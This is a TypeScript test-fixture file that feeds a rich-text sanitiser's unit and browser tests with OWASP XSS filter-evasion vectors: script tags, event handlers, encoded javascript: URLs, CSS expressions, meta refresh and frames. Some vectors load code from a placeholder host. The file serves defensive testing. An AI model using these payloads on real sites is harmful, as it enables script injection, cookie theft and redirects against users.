/**
 * Test fixtures: markup from the vectors of OWASP's XSS Filter Evasion Cheat Sheet (script tags
 * in their many spellings, event handlers, script and data URLs, encodings, CSS, meta refresh,
 * frames and plug-ins, malformed and nested tags), as stored rich text might arrive. The host
 * names are placeholders. `rich-text-xss.test.ts` runs each through the sanitiser, and the
 * end-to-end `e2e/rich-text-xss.spec.ts` shows each result in a browser page.
 */
const TAB = '\t';
const NUL = '\u0000';

const javascriptDecimal = [...'javascript:alert(1)'].map((c) => `&#${c.charCodeAt(0)};`).join('');
const javascriptLongDecimal = [...'javascript:alert(1)']
  .map((c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`)
  .join('');
const javascriptHex = [...'javascript:alert(1)']
  .map((c) => `&#x${c.charCodeAt(0).toString(16)}`)
  .join('');

export const OWASP_XSS_VECTORS: readonly string[] = [
  // Script tags, spelled every way.
  `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
  `<script>alert('XSS')</script>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>`,
  `<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//<</SCRIPT>`,
  `<SCRIPT SRC=https://xss.example/xss.js?< B >`,
  `<SCRIPT SRC=//xss.example/.j>`,
  `<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>`,
  `<SCRIPT =">" SRC="https://xss.example/xss.js"></SCRIPT>`,
  `<SCRIPT a=">" '' SRC="https://xss.example/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="https://xss.example/xss.js"></SCRIPT>`,
  '<SCRIPT a=`>` SRC="https://xss.example/xss.js"></SCRIPT>',
  `<SCRIPT a=">'>" SRC="https://xss.example/xss.js"></SCRIPT>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://xss.example/xss.js"></SCRIPT>`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<script>script>alert(1)<</script>/script>`,
  `<p>text<script>alert(1)</script`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<template><script>alert(1)</script></template>`,
  `<svg><script>alert(1)</script></svg>`,
  // Images and other tags with event handlers or script sources.
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="${javascriptLongDecimal}">`,
  `<IMG SRC="javascript:alert('XSS')"`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<IMG SRC="javas<!-- -->cript:alert('XSS')">`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<svg/onload=alert('XSS')>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<math href="javascript:alert(1)">CLICK</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<p title="</p><script>alert(1)</script>">x</p>`,
  `<details open ontoggle=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<isindex type=image src=1 onerror=alert(1)>`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`,
  `<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert('XSS')</SCRIPT>">`,
  // Links: script, vbscript and data URLs, encoded and split.
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href=javascript:alert(1)>unquoted</a>`,
  `<a href='javascript:alert(1)'>single quotes</a>`,
  `<a href="  javascript:alert(1)">leading spaces</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">meta characters</a>`,
  `<a href="${javascriptDecimal}">decimal entities</a>`,
  `<a href="${javascriptLongDecimal}">long decimal entities without semicolons</a>`,
  `<a href="${javascriptHex}">hex entities without semicolons</a>`,
  `<a href="&#x6A;avascript:alert(1)">one hex entity</a>`,
  `<a href="jav${TAB}ascript:alert('XSS');">embedded tab</a>`,
  `<a href="jav&#x09;ascript:alert('XSS');">encoded tab</a>`,
  `<a href="jav&#x0A;ascript:alert('XSS');">encoded newline</a>`,
  `<a href="jav&#x0D;ascript:alert('XSS');">encoded carriage return</a>`,
  `<a href="java${NUL}script:alert('XSS')">null byte</a>`,
  `<a href="&#0;javascript:alert(1)">encoded null</a>`,
  `<a href="java&Tab;script:alert(1)">named tab</a>`,
  `<a href="javascript&colon;alert(1)">named colon</a>`,
  `<a href="vbscript:msgbox('XSS')">x</a>`,
  `<a href="livescript:alert('XSS')">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="//xss.example/">protocol relative</a>`,
  `<A HREF="javascript:document.location='https://xss.example/'">XSS</A>`,
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<a href="https://ok.example/" onclick="alert(1)">x</a>`,
  `<form action="javascript:alert(1)"><button>go</button></form>`,
  `<button formaction="javascript:alert(1)">go</button>`,
  // Styles: expression(), url(), behaviours, imports, escapes.
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<STYLE>@import'https://xss.example/xss.css';</STYLE>`,
  `<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>`,
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<p style="width: expression(alert('XSS'))">x</p>`,
  `<p style="color: expression(alert(1))">x</p>`,
  `<p style="text-align: left; width: expression(alert(1))">x</p>`,
  `<p style="background-image: url(javascript:alert('XSS'))">x</p>`,
  `<p style="color: red; background: url(&quot;javascript:alert(1)&quot;)">x</p>`,
  `<span style="font-family: x;}body{background:url(javascript:alert(1))">x</span>`,
  `<span style="font-family: url(javascript:alert(1))">x</span>`,
  `<span style="color: red;/**/background-image: url(x)">x</span>`,
  `<p style="behavior: url(xss.htc)">x</p>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0027\\0058\\0053\\0053\\0027\\0029'\\0029">x</DIV>`,
  `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">x</DIV>`,
  `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`,
  `<div style="color: red" style="background:url(javascript:alert(1))">duplicate</div>`,
  `<div style="background:url(data:image/svg+xml,<svg onload=alert(1)>)">x</div>`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="https://xss.example/xss.css">`,
  // Meta refresh, base, frames and plug-ins.
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">`,
  `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<iframe src=https://xss.example/scriptlet.html <`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')"><tr><td>x</td></tr></TABLE>`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">x</TD></TABLE>`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>`,
  `<object data="javascript:alert(1)"></object>`,
  `<EMBED SRC="https://xss.example/xss.swf" AllowScriptAccess="always"></EMBED>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml"></EMBED>`,
  `<APPLET CODE="xss.class"></APPLET>`,
];

/** The tags the toolbar writes (what the sanitiser keeps), for handlers on every one of them. */
const TOOLBAR_TAGS: Record<string, (inner: string) => string> = {
  ...Object.fromEntries(
    [
      ...['h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'div', 'span', 'blockquote'],
      ...['strong', 'b', 'em', 'i', 'u', 's', 'strike', 'del', 'sub', 'sup', 'a'],
    ].map((tag) => [tag, (attributes: string) => `<${tag} ${attributes}>x</${tag}>`]),
  ),
  br: (attributes) => `<p>x<br ${attributes}>y</p>`,
  hr: (attributes) => `<hr ${attributes}>`,
  ul: (attributes) => `<ul ${attributes}><li>x</li></ul>`,
  ol: (attributes) => `<ol ${attributes}><li>x</li></ol>`,
  li: (attributes) => `<ul><li ${attributes}>x</li></ul>`,
  table: (attributes) => `<table ${attributes}><tr><td>x</td></tr></table>`,
  caption: (attributes) => `<table><caption ${attributes}>x</caption><tr><td>x</td></tr></table>`,
  colgroup: (attributes) =>
    `<table><colgroup ${attributes}><col></colgroup><tr><td>x</td></tr></table>`,
  col: (attributes) => `<table><colgroup><col ${attributes}></colgroup><tr><td>x</td></tr></table>`,
  thead: (attributes) => `<table><thead ${attributes}><tr><th>x</th></tr></thead></table>`,
  tbody: (attributes) => `<table><tbody ${attributes}><tr><td>x</td></tr></tbody></table>`,
  tfoot: (attributes) => `<table><tfoot ${attributes}><tr><td>x</td></tr></tfoot></table>`,
  tr: (attributes) => `<table><tr ${attributes}><td>x</td></tr></table>`,
  th: (attributes) => `<table><tr><th ${attributes}>x</th></tr></table>`,
  td: (attributes) => `<table><tr><td ${attributes}>x</td></tr></table>`,
};

const HANDLERS = ['onclick', 'onmouseover', 'onerror', 'onload', 'onfocus', 'onanimationstart'];

/** An event handler (and a script URL where one could go) on every tag the sanitiser keeps. */
export const HANDLER_VECTORS: readonly string[] = Object.entries(TOOLBAR_TAGS).flatMap(
  ([tag, wrap]) =>
    HANDLERS.map((handler, index) =>
      wrap(
        `${handler}="alert(1)" style="color: red" ${index % 2 ? 'href' : 'src'}="javascript:alert(${tag})" tabindex="1"`,
      ),
    ),
);
